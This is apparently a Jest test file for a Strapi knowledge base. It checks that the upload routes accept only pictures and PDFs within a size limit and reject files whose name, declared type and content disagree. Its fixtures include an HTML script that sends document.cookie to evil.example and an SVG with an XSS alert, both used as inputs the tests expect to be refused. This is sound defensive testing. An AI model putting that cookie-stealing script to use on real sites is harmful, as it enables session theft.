/**
 * Uploads through the real upload routes (the content API with an API token, the admin's media
 * library with an admin session): only pictures and PDF, within the size limit, and a file whose
 * name, declared type and content disagree is refused with a clear 400.
 */
import sharp from 'sharp';
import { adminSession, startKnowledgeBase, type KnowledgeBase } from './helpers/strapi';

const MAX = 100_000;
let kb: KnowledgeBase;
let png: Buffer;
let jpeg: Buffer;
beforeAll(async () => {
  kb = await startKnowledgeBase({ env: { UPLOAD_MAX_BYTES: String(MAX) } });
  const picture = sharp({ create: { width: 8, height: 8, channels: 3, background: { r: 0, g: 90, b: 160 } } });
  png = await picture.clone().png().toBuffer();
  jpeg = await picture.clone().jpeg().toBuffer();
});
afterAll(async () => {
  await kb.stop();
});

const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n');
const HTML = Buffer.from('<!doctype html><script>document.location="https://evil.example/?c="+document.cookie</script>');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');

const upload = async (content: Buffer, filename: string, contentType: string) =>
  kb
    .http()
    .post('/api/upload')
    .set('authorization', `Bearer ${await kb.apiToken()}`)
    .attach('files', content, { filename, contentType });
const storedFiles = () => kb.strapi.db.query('plugin::upload.file').count();

test.each([
  ['a PNG picture', () => png, 'logo.png', 'image/png'],
  ['a JPEG picture', () => jpeg, 'foto-workshop.JPG', 'image/jpeg'],
  ['a PDF report', () => PDF, 'rapporto.pdf', 'application/pdf'],
  ['a PDF sent as a generic type', () => PDF, 'programma.pdf', 'application/octet-stream'],
])('%s is stored', async (_name, content, filename, type) => {
  const res = await upload(content(), filename, type);
  expect(res.status).toBe(201);
  expect(res.body[0]).toMatchObject({ name: filename, mime: type === 'application/octet-stream' ? 'application/pdf' : type });
});

test.each([
  ['HTML named .png', HTML, 'innocuo.png', 'image/png', /"innocuo.png": the content is not image\/png/],
  ['a PDF named .jpg', PDF, 'foto.jpg', 'image/jpeg', /the content is not image\/jpeg/],
  ['a PNG declared as HTML', null, 'logo.png', 'text/html', /declared as text\/html, but its name says image\/png/],
  [
    'an SVG picture',
    SVG,
    'logo.svg',
    'image/svg+xml',
    /files of this type cannot be uploaded. Allowed: .jpg, .jpeg, .png, .gif, .webp, .pdf/,
  ],
  ['an HTML page', HTML, 'pagina.html', 'text/html', /files of this type cannot be uploaded/],
  ['a program', Buffer.from('MZ\x90\x00'), 'setup.exe', 'application/octet-stream', /files of this type cannot be uploaded/],
  ['a file without an extension', PDF, 'documento', 'application/pdf', /files of this type cannot be uploaded/],
])('%s is refused with a 400 and nothing is stored', async (_name, content, filename, type, message) => {
  const before = await storedFiles();
  const res = await upload(content ?? png, filename, type);
  expect(res.status).toBe(400);
  expect(res.body.error.message).toMatch(message);
  expect(await storedFiles()).toBe(before);
});

test('a file over the size limit is refused with a 413', async () => {
  const before = await storedFiles();
  const big = Buffer.concat([PDF, Buffer.alloc(MAX + 1, 0x20)]);
  const res = await upload(big, 'grande.pdf', 'application/pdf');
  expect(res.status).toBe(413);
  expect(await storedFiles()).toBe(before);
});

test('the admin media library applies the same rules', async () => {
  const jwt = await adminSession(kb);
  const send = (content: Buffer, filename: string, contentType: string) =>
    kb.http().post('/upload').set('authorization', `Bearer ${jwt}`).attach('files', content, { filename, contentType });
  expect((await send(png, 'admin-logo.png', 'image/png')).status).toBe(201);
  const refused = await send(HTML, 'admin-innocuo.png', 'image/png');
  expect(refused.status).toBe(400);
  expect(refused.body.error.message).toMatch(/the content is not image\/png/);
});
